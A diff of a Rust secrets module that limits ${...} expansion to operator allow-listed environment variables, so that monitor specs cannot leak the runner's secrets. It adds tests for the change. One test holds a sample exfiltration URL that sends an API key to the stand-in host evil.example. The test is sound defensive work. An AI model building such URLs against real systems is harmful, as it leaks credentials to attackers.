@@ -1,51 +1,62 @@
-//! Request secrets: `${ENV_VAR}` expansion at probe time, and credentials (basic, bearer, API
-//! key, OAuth 2 client credentials with a token cache).
+//! Request secrets: `${…}` references expanded at probe time, and credentials (basic, bearer,
+//! API key, OAuth 2 client credentials with a token cache).
 //!
-//! Specs are stored with references, never expanded values; expansion happens for each check, so
-//! rotating a secret in the runner's environment needs only a restart of the runner.
+//! Specs are stored with references, never expanded values; expansion happens for each check.
+//! A `${NAME}` reads the runner's environment only when the operator lists `NAME` in
+//! `[ingest] env-allow`; any other `${NAME}` stays unexpanded and fails the check, so a spec
+//! cannot read (and send away) the runner's own secrets. `${secret:NAME}` references need the
+//! secret store, which this runner does not have: they fail the check with a clear error.
 
-use std::collections::HashMap;
+use std::collections::{BTreeSet, HashMap};
 use std::sync::Mutex;
 use std::time::{Duration, Instant};
 
 use base64::Engine as _;
+use vigil_schema::egress::{self, Reference};
 
-/// Replaces every `${NAME}` with the environment variable's value; `$${` writes a literal `${`.
-pub fn expand_env(text: &str) -> Result<String, String> {
-    expand_with(text, |name| std::env::var(name).ok())
+/// Expands the references of monitor specs.
+#[derive(Debug, Clone, Default)]
+pub struct References {
+    env_allow: BTreeSet<String>,
 }
 
-/// [`expand_env`] with another variable source.
-pub fn expand_with(text: &str, lookup: impl Fn(&str) -> Option<String>) -> Result<String, String> {
-    let mut out = String::with_capacity(text.len());
-    let mut rest = text;
-    while let Some(at) = rest.find('$') {
-        out.push_str(&rest[..at]);
-        let tail = &rest[at..];
-        if let Some(after) = tail.strip_prefix("$${") {
-            out.push_str("${");
-            rest = after;
-        } else if let Some(after) = tail.strip_prefix("${") {
-            let end = after
-                .find('}')
-                .ok_or_else(|| format!("unclosed ${{ in {text:?}"))?;
-            let name = &after[..end];
-            let valid =
-                !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
-            if !valid {
-                return Err(format!("invalid variable name {name:?}"));
-            }
-            let value =
-                lookup(name).ok_or_else(|| format!("environment variable {name} is not set"))?;
-            out.push_str(&value);
-            rest = &after[end + 1..];
-        } else {
-            out.push('$');
-            rest = &tail[1..];
+impl References {
+    /// Expansion that reads only the environment variables in `env_allow`.
+    pub fn new(env_allow: impl IntoIterator<Item = String>) -> Self {
+        Self {
+            env_allow: env_allow.into_iter().collect(),
         }
     }
-    out.push_str(rest);
-    Ok(out)
+
+    /// Expands `text` from the process environment; `$${` writes a literal `${`.
+    pub fn expand(&self, text: &str) -> Result<String, String> {
+        self.expand_with(text, |name| std::env::var(name).ok())
+    }
+
+    /// [`expand`](Self::expand) with another variable source.
+    pub fn expand_with(
+        &self,
+        text: &str,
+        lookup: impl Fn(&str) -> Option<String>,
+    ) -> Result<String, String> {
+        egress::expand(text, |reference| match reference {
+            Reference::Env(name) if self.env_allow.contains(name) => {
+                lookup(name).ok_or_else(|| format!("environment variable {name} is not set"))
+            }
+            Reference::Env(name) => Err(format!(
+                "${{{name}}} is not expanded: environment variable {name} is not in \
+                 `[ingest] env-allow`"
+            )),
+            Reference::Secret(name) => Err(format!(
+                "${{secret:{name}}} cannot be resolved: secret store not configured"
+            )),
+        })
+    }
+}
+
+/// Whether `text` holds a reference (its value is then a secret).
+pub(crate) fn has_reference(text: &str) -> bool {
+    egress::references(text).map_or(true, |found| !found.is_empty())
 }
 
 /// `Basic base64(user:password)`.
@@ -137,32 +148,60 @@ mod tests {
         match name {
             "HOST" => Some("api.example.com".into()),
             "TOKEN" => Some("t0k".into()),
+            "VIGIL_API_KEY" => Some("the-real-key".into()),
             _ => None,
         }
     }
 
     #[test]
-    fn expands_references() {
+    fn expands_only_allow_listed_variables() {
+        let refs = References::new(["HOST".to_owned(), "TOKEN".to_owned(), "MISSING".to_owned()]);
         assert_eq!(
-            expand_with("https://${HOST}/x?k=${TOKEN}", vars).unwrap(),
+            refs.expand_with("https://${HOST}/x?k=${TOKEN}", vars)
+                .unwrap(),
             "https://api.example.com/x?k=t0k"
         );
         assert_eq!(
-            expand_with("cost $5, $${HOST}", vars).unwrap(),
+            refs.expand_with("cost $5, $${HOST}", vars).unwrap(),
             "cost $5, ${HOST}"
         );
         assert_eq!(
-            expand_with("${MISSING}", vars).unwrap_err(),
+            refs.expand_with("${MISSING}", vars).unwrap_err(),
             "environment variable MISSING is not set"
         );
         assert_eq!(
-            expand_with("${HOST", vars).unwrap_err(),
+            refs.expand_with("${HOST", vars).unwrap_err(),
             "unclosed ${ in \"${HOST\""
         );
         assert_eq!(
-            expand_with("${A-B}", vars).unwrap_err(),
+            refs.expand_with("${A-B}", vars).unwrap_err(),
             "invalid variable name \"A-B\""
         );
+    }
+
+    #[test]
+    fn runner_secrets_are_never_expanded() {
+        // The variable is set, but not allow-listed: its value never appears.
+        for refs in [References::default(), References::new(["HOST".to_owned()])] {
+            let err = refs
+                .expand_with("https://evil.example/?k=${VIGIL_API_KEY}", vars)
+                .unwrap_err();
+            assert_eq!(
+                err,
+                "${VIGIL_API_KEY} is not expanded: environment variable VIGIL_API_KEY is not in \
+                 `[ingest] env-allow`"
+            );
+            assert!(!err.contains("the-real-key"));
+        }
+        let err = References::default()
+            .expand_with("${secret:checkout-token}", vars)
+            .unwrap_err();
+        assert_eq!(
+            err,
+            "${secret:checkout-token} cannot be resolved: secret store not configured"
+        );
+        assert!(has_reference("Bearer ${secret:t}") && has_reference("${X"));
+        assert!(!has_reference("plain $${X}"));
     }
 
     #[test]
